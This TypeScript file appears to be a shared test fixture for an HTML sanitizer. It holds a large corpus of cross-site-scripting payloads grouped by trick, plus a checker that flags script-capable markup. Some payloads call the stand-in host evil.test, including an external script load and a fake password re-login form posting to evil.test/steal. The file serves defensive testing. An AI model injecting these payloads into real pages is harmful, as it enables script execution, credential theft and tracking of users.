/**
 * Known ways of getting script-capable markup past an HTML filter, grouped by trick. Shared: the
 * unit tests run them through the sanitizer, and the e2e suite can feed them through a real
 * ticket into Chromium. Written for this project from the well-known families of vectors.
 */

export interface XssCase {
  family: string;
  html: string;
}

const js = 'alert(1)';

const scripts = [
  `<script>${js}</script>`,
  `<SCRIPT SRC=//evil.test/x.js></SCRIPT>`,
  `<script type="module">${js}</script>`,
  `<scr<script>ipt>${js}</scr</script>ipt>`,
  `<script>/*</script><p title="*/${js}//">x</p>`,
  `<<script>${js};//<</script>`,
  `<script\x20type="text/javascript">${js}</script>`,
  `<script/xss src="//evil.test/x.js"></script>`,
  `<svg><script>${js}</script></svg>`,
  `<p>ok</p><script>document.cookie</script><p>after</p>`,
];

const handlers = [
  `<img src=x onerror=${js}>`,
  `<img src="https://evil.test/a.png" onload="${js}">`,
  `<IMG SRC=x ONERROR=${js}>`,
  `<img src=x onerror="&#97;&#108;&#101;&#114;&#116;(1)">`,
  `<body onload=${js}>`,
  `<div onmouseover="${js}">hover</div>`,
  `<p onclick=${js}>click</p>`,
  `<a href="https://ok.test" onfocus=${js} autofocus>x</a>`,
  `<input onfocus=${js} autofocus>`,
  `<select onfocus=${js} autofocus>`,
  `<textarea onfocus=${js} autofocus>`,
  `<keygen onfocus=${js} autofocus>`,
  `<video><source onerror="${js}">`,
  `<audio src=x onerror=${js}>`,
  `<details open ontoggle=${js}>`,
  `<marquee onstart=${js}>x</marquee>`,
  `<div style="width:100px" onanimationstart=${js}>x</div>`,
  `<img src=x oNeRrOr=${js}>`,
  `<img/src=x/onerror=${js}>`,
  `<img src=x onerror\n=${js}>`,
  `<b onpointerenter=${js}>x</b>`,
  `<table background="javascript:${js}"><tr><td onclick=${js}>x</td></tr></table>`,
  `<span onbeforecopy=${js} contenteditable>x</span>`,
  `<strong onwheel=${js}>x</strong>`,
];

const urls = [
  `<a href="javascript:${js}">x</a>`,
  `<a href="JaVaScRiPt:${js}">x</a>`,
  `<a href=" javascript:${js}">x</a>`,
  `<a href="java\tscript:${js}">x</a>`,
  `<a href="java\nscript:${js}">x</a>`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${js}">x</a>`,
  `<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;${js}">x</a>`,
  `<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058${js}">x</a>`,
  `<a href="javascript&colon;${js}">x</a>`,
  `<a href="jav&#x09;ascript:${js}">x</a>`,
  `<a href="\x01javascript:${js}">x</a>`,
  `<a href="vbscript:msgbox(1)">x</a>`,
  `<a href="VBScript:msgbox(1)">x</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
  `<a href="DATA:text/html,<script>${js}</script>">x</a>`,
  `<a href="data:image/svg+xml,<svg onload=${js}>">x</a>`,
  `<img src="javascript:${js}">`,
  `<img src="vbscript:msgbox(1)">`,
  `<img src="data:text/html,<script>${js}</script>">`,
  `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
  `<img dynsrc="javascript:${js}">`,
  `<img lowsrc="javascript:${js}">`,
  `<a href="file:///etc/passwd">x</a>`,
  `<a href="blob:https://evil.test/uuid">x</a>`,
  `<a href="//evil.test/relative">x</a>`,
  `<a href="/api/relative">x</a>`,
  `<a href="#" xlink:href="javascript:${js}">x</a>`,
  `<a href="https://ok.test" formaction="javascript:${js}">x</a>`,
  `<a href="https://ok.test" target="_self" rel="opener">x</a>`,
  `<a href="https://ok.test" ping="https://evil.test/ping">x</a>`,
];

const svgMath = [
  `<svg onload=${js}>`,
  `<svg><animate onbegin=${js} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${js}"><text x=20 y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${js}>#x"/></svg>`,
  `<svg><set attributeName=onmouseover to=${js}>`,
  `<svg><foreignObject><iframe src="javascript:${js}"></iframe></foreignObject></svg>`,
  `<svg><style>*{background:url(javascript:${js})}</style></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${js}>`,
  `<math><a xlink:href="javascript:${js}">x</a></math>`,
  `<math href="javascript:${js}">x</math>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${js}>">`,
  `<svg><title><img src=x onerror=${js}></title></svg>`,
];

const frames = [
  `<iframe src="javascript:${js}"></iframe>`,
  `<iframe srcdoc="<script>${js}</script>"></iframe>`,
  `<iframe srcdoc="&lt;img src=x onerror=${js}&gt;"></iframe>`,
  `<iframe src="https://evil.test"></iframe>`,
  `<frameset><frame src="javascript:${js}"></frameset>`,
  `<object data="javascript:${js}"></object>`,
  `<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>`,
  `<object type="application/x-shockwave-flash" data="evil.swf"><param name="AllowScriptAccess" value="always"></object>`,
  `<embed src="javascript:${js}">`,
  `<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
  `<applet code="Evil.class"></applet>`,
  `<portal src="https://evil.test"></portal>`,
];

const forms = [
  `<form action="https://evil.test/steal"><input name="password" type="password"><button>Sign in again</button></form>`,
  `<form><button formaction="javascript:${js}">x</button></form>`,
  `<isindex action="javascript:${js}" type=image>`,
  `<input type="image" src="x" onerror=${js}>`,
  `<button onclick=${js}>Click</button>`,
  `<form id=f></form><button form=f formaction="javascript:${js}">x</button>`,
  `<textarea>x</textarea><input type="hidden" name="csrf" value="x">`,
];

const headTricks = [
  `<meta http-equiv="refresh" content="0;url=javascript:${js}">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.test">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
  `<base href="https://evil.test/">`,
  `<link rel="stylesheet" href="https://evil.test/x.css">`,
  `<link rel="import" href="https://evil.test/x.html">`,
  `<title><img src=x onerror=${js}></title>`,
  `<head><script>${js}</script></head><body><p>x</p></body>`,
];

const css = [
  `<div style="background:url(javascript:${js})">x</div>`,
  `<div style="width:expression(${js})">x</div>`,
  `<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999;background:#fff">Your session expired</div>`,
  `<p style="position:absolute;inset:0">overlay</p>`,
  `<style>body{display:none}</style><p>x</p>`,
  `<style>@import 'https://evil.test/x.css';</style>`,
  `<div style="-moz-binding:url(https://evil.test/xbl#x)">x</div>`,
  `<span style="behavior:url(evil.htc)">x</span>`,
  `<div style="background-image:url(&quot;javascript:${js}&quot;)">x</div>`,
  `<div class="scrim btn-danger-solid">pretending to be the app</div>`,
  `<p style="font-size:999px">huge</p>`,
];

const mutation = [
  `<noscript><p title="</noscript><img src=x onerror=${js}>">`,
  `<noembed><img title="</noembed><img src=x onerror=${js}>"></noembed>`,
  `<noframes><p title="</noframes><img src=x onerror=${js}>"></noframes>`,
  `<xmp><p title="</xmp><img src=x onerror=${js}>"></xmp>`,
  `<textarea><p title="</textarea><img src=x onerror=${js}>"></textarea>`,
  `<template><img src=x onerror=${js}></template>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${js}>`,
  `<table><tr><td><select><option><svg><style><img src=x onerror=${js}></style></svg></option></select></td></tr></table>`,
  `<a title="&lt;/a&gt;&lt;img src=x onerror=${js}&gt;">x</a>`,
  `<p id="</p><script>${js}</script>">x</p>`,
  `<!--<img src="--><img src=x onerror=${js}//">`,
  `<![CDATA[<img src=x onerror=${js}>]]>`,
  `<?xml-stylesheet href="javascript:${js}"?>`,
  `<listing>&lt;img src=x onerror=${js}&gt;</listing>`,
  `<plaintext><img src=x onerror=${js}>`,
];

const unclosed = [
  `<img src=x onerror=${js}`,
  `<a href="javascript:${js}"`,
  `<p><b><i><u><a href="javascript:${js}">deep`,
  `<div><div><div><div><div><div><div><div><img src=x onerror=${js}>`,
  `<scr\0ipt>${js}</scr\0ipt>`,
  `<img src=x on\0error=${js}>`,
  `<p <img src=x onerror=${js}>>x</p>`,
  `<a href="https://ok.test"<img src=x onerror=${js}>>x</a>`,
  `<</p>iframe src=javascript:${js}>`,
  `<ul><li><a href="jAvAsCrIpT:${js}">x</ul>`,
];

const data = [
  `<img src="https://tracker.test/pixel.gif?u=42" width=1 height=1>`,
  `<img src="http://tracker.test/pixel.gif">`,
  `<picture><source srcset="https://tracker.test/a.png"><img src="https://tracker.test/b.png"></picture>`,
  `<img srcset="https://tracker.test/a.png 1x, https://tracker.test/b.png 2x">`,
  `<video poster="https://tracker.test/p.png"></video>`,
  `<body background="https://tracker.test/bg.png">x</body>`,
];

function family(name: string, list: string[]): XssCase[] {
  return list.map((html) => ({ family: name, html }));
}

export const XSS_CORPUS: readonly XssCase[] = [
  ...family('script tags', scripts),
  ...family('event handlers', handlers),
  ...family('dangerous URLs', urls),
  ...family('SVG and MathML', svgMath),
  ...family('frames and plugins', frames),
  ...family('forms', forms),
  ...family('document-level tags', headTricks),
  ...family('CSS', css),
  ...family('mutation XSS', mutation),
  ...family('nested and unclosed', unclosed),
  ...family('remote loads', data),
];

const FORBIDDEN_ELEMENTS = new Set([
  'script', 'iframe', 'frame', 'frameset', 'object', 'embed', 'applet', 'portal', 'form', 'input', 'button', 'select',
  'textarea', 'style', 'link', 'base', 'meta', 'title', 'svg', 'math', 'template', 'noscript', 'video', 'audio', 'source',
  'picture', 'isindex', 'param', 'body', 'head', 'html',
]);
const URL_ATTRIBUTES = new Set(['href', 'src', 'action', 'formaction', 'xlink:href', 'background', 'poster', 'data', 'srcset', 'dynsrc', 'lowsrc', 'ping']);

/**
 * What in a parsed fragment could run script, submit data, restyle the app or load something
 * remote without asking. Empty means clean. `allowRemoteImages` is for the "Show images" state.
 */
export function scriptCapable(root: ParentNode, options: { allowRemoteImages?: boolean } = {}): string[] {
  const problems: string[] = [];
  for (const el of Array.from(root.querySelectorAll('*'))) {
    const tag = el.localName;
    if (FORBIDDEN_ELEMENTS.has(tag)) problems.push(`<${tag}>`);
    if (el.namespaceURI !== 'http://www.w3.org/1999/xhtml') problems.push(`${tag} in ${el.namespaceURI ?? 'no'} namespace`);
    for (const attr of Array.from(el.attributes)) {
      const name = attr.name.toLowerCase();
      // Browsers ignore whitespace and control characters inside a scheme, so the check does too.
      const value = Array.from(attr.value).filter((ch) => ch.charCodeAt(0) > 0x20).join('').toLowerCase();
      if (name.startsWith('on')) problems.push(`${tag}[${name}]`);
      if (name === 'style' || name === 'srcdoc' || name === 'class' && !attr.value.startsWith('sd-')) problems.push(`${tag}[${name}]`);
      if (URL_ATTRIBUTES.has(name)) {
        if (/^(?:javascript|vbscript|data:text|data:image\/svg|file|blob):?/.test(value)) problems.push(`${tag}[${name}=${value.slice(0, 30)}]`);
        if (tag === 'a' && name === 'href' && !/^(?:https?|mailto):/.test(value)) problems.push(`a[href=${value.slice(0, 30)}] not absolute web/mail`);
        if (tag === 'img' && name === 'src' && !options.allowRemoteImages && /^https?:/.test(value)) problems.push(`remote image ${value.slice(0, 40)}`);
        if (name !== 'href' && name !== 'src') problems.push(`${tag}[${name}]`);
      }
    }
    if (tag === 'a' && el.hasAttribute('href') && (el.getAttribute('rel') !== 'noopener noreferrer' || el.getAttribute('target') !== '_blank')) {
      problems.push('link without rel="noopener noreferrer" target="_blank"');
    }
  }
  return problems;
}
